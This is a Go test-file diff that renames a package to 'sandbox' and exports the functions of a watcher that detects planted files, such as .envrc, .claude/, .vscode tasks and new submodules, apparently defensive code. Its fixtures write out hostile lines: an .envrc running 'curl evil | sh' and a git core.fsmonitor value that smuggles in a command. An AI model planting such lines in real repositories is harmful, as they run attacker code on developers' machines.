@@ -1,4 +1,4 @@
-package engine
+package sandbox
 
 import (
 	"os"
@@ -14,8 +14,8 @@ import (
 // to another watched file: each is watched in its own right.
 func TestPlantedFloodHidesNoOtherFile(t *testing.T) {
 	root := t.TempDir()
-	var w planted
-	w.ran(root)
+	var w Planted
+	w.Ran(root)
 	flood := filepath.Join(root, ".claude")
 	if err := os.Mkdir(flood, 0o755); err != nil {
 		t.Fatal(err)
@@ -28,7 +28,7 @@ func TestPlantedFloodHidesNoOtherFile(t *testing.T) {
 	if err := os.WriteFile(filepath.Join(root, ".envrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	changed, _ := w.since(root)
+	changed, _ := w.Since(root)
 	if !slices.Contains(changed, ".envrc") {
 		t.Errorf("a planted .envrc is not named beside a flooded .claude/ (%d names)", len(changed))
 	}
@@ -38,9 +38,9 @@ func TestPlantedFloodHidesNoOtherFile(t *testing.T) {
 // changed file by its name.
 func TestPlantedReasonGroupsAFloodedFolder(t *testing.T) {
 	changed := []string{".claude/a", ".claude/b", ".claude/c/d", ".claude/e", ".envrc", ".vscode/launch.json", ".vscode/tasks.json"}
-	got := plantedReason(changed)
+	got := PlantedReason(changed)
 	if !strings.Contains(got, ": .claude/ (4 files), .envrc, .vscode/launch.json, .vscode/tasks.json (") {
-		t.Errorf("plantedReason(%v) = %q, want .claude/ named once with its count", changed, got)
+		t.Errorf("PlantedReason(%v) = %q, want .claude/ named once with its count", changed, got)
 	}
 }
 
@@ -61,14 +61,14 @@ func TestPlantedNamesANewSubmodule(t *testing.T) {
 		return strings.TrimSpace(string(out))
 	}
 	git(root, "init", "-q")
-	var w planted
-	w.ran(root)
+	var w Planted
+	w.Ran(root)
 	evil := filepath.Join(root, "evil")
 	git(root, "init", "-q", "evil")
 	git(evil, "commit", "-q", "--allow-empty", "-m", "x")
 	git(root, "update-index", "--add", "--cacheinfo", "160000,"+git(evil, "rev-parse", "HEAD")+",evil")
 	git(evil, "config", "core.fsmonitor", "touch pwned; false")
-	changed, _ := w.since(root)
+	changed, _ := w.Since(root)
 	if !slices.Contains(changed, "evil/.git") {
 		t.Errorf("a submodule entry made with its repository is not named: %v", changed)
 	}
